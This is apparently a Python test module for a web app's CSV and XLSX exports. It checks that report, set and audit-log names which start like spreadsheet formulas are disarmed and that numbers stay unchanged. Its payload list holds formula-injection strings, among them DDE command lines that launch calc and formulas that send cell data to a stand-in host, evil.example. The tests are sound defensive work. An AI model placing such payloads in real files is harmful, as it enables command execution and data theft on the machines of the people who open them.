"""Names that a spreadsheet program would calculate, in files that people really take along: disarmed, and numbers untouched."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import openpyxl
from django.urls import reverse

from explorer.models import MediaSet, Pick, Report, Run, RunSet
from teams.audit import Event, note
from teams.spreadsheets import csv_of
from tests.security.browsers import again
from tests.test_rights import browser_of

# Payloads that programs are known to take for a formula or a command, as a name of a report, set or touchpoint could be.
CORPUS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","Open")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    '" =1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    ";=1+1",
    ",=1+1",
    "a\r\n=1+1",
    "a\n=1+1",
    '"\r\n=1+1',
    "a\t=1+1",
    "=",
    "-",
]
BEGINS = re.compile(r"^[\s'\"\u00a0]*[=+\-@\t\r\n\0＝＋－＠]")
NUMBER = re.compile(r"-?\d+([.,]\d+)?(e-?\d+)?")


def armed(run: Run, text: str) -> None:
    """Give everything that a person or Kits names this name."""
    Report.objects.filter(pk=run.report.pk).update(name=text[:200])
    MediaSet.objects.filter(version=run.version).update(name=text[:100])
    RunSet.objects.filter(run=run).update(name=text[:100])
    Pick.objects.filter(media_set__version=run.version).update(name=text)
    for each in RunSet.objects.filter(run=run):
        each.touchpoints = [item | {"name": text} if isinstance(item, dict) else item for item in each.touchpoints]
        each.save()


def export(browser: Any, run: Run, kind: str, language: str = "en") -> bytes:
    """The file that a person gets."""
    headers = {"Accept-Language": language}
    answer = again(browser).post(reverse("run-export", args=[run.uuid, kind]), headers=headers)
    assert answer.status_code == 200
    return bytes(answer.content)


def cells(made: bytes, delimiter: str = ",") -> list[str]:
    """Every cell of a CSV, as a program reads it."""
    return [
        cell for line in csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), delimiter=delimiter) for cell in line
    ]


def dangerous(found: list[str]) -> list[str]:
    """Cells that would be calculated: those that begin like a formula, are no number and are not disarmed."""
    return [cell for cell in found if BEGINS.match(cell) and not NUMBER.fullmatch(cell) and not cell.startswith("'")]


def test_no_name_is_calculated_and_no_number_is_changed(alice: Any, ready_run: Run) -> None:
    browser, calculated = browser_of(alice), {}
    numbers = [cell for cell in cells(export(browser, ready_run, "csv")) if NUMBER.fullmatch(cell)]
    assert len(numbers) > 20
    for text in CORPUS:
        armed(ready_run, text)
        found = cells(export(browser, ready_run, "csv"))
        calculated[text] = dangerous(found)
        assert any(text.strip(" \t\r\n'\"")[:6] in cell for cell in found), "The name is in the file."
        assert [cell for cell in found if NUMBER.fullmatch(cell)] == numbers, text
    assert {text: found for text, found in calculated.items() if found} == {}


def test_the_readers_language_makes_no_difference(alice: Any, ready_run: Run) -> None:
    armed(ready_run, "=1+1")
    found = cells(export(browser_of(alice), ready_run, "csv", "fi"), ";")
    assert dangerous(found) == [] and "'=1+1" in found
    assert any(re.fullmatch(r"\d+,\d+", cell) for cell in found)


def test_no_cell_of_a_workbook_is_a_formula(alice: Any, ready_run: Run) -> None:
    browser = browser_of(alice)
    for text in CORPUS[:6] + CORPUS[-8:]:
        armed(ready_run, text)
        book = openpyxl.load_workbook(io.BytesIO(export(browser, ready_run, "xlsx")))
        found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.value for cell in found if cell.data_type == "f" or cell.hyperlink]
        assert sum(isinstance(cell.value, int | float) for cell in found) > 20


def test_nothing_of_the_audit_log_is_calculated(alice: Any, team: Any) -> None:
    for text in CORPUS:
        note(team, Event.ROLE_CHANGED, alice, text, {text: [text, text]})
    answer = browser_of(alice).post(reverse("audit-export", args=[team.uuid]))
    found = cells(bytes(answer.content))
    assert dangerous(found) == [] and len(found) > 5 * len(CORPUS)


def test_a_number_below_zero_stays_one_and_a_text_like_it_does_not() -> None:
    assert cells(csv_of([[-1, -1.5, "-1", "-x"]]).encode()) == ["-1", "-1.5", "'-1", "'-x"]


def test_the_search_sees_what_would_be_calculated() -> None:
    assert dangerous(["=1", " =1", "-x", "-1", "-1.5", "'=1", "x=1", "1"]) == ["=1", " =1", "-x"]
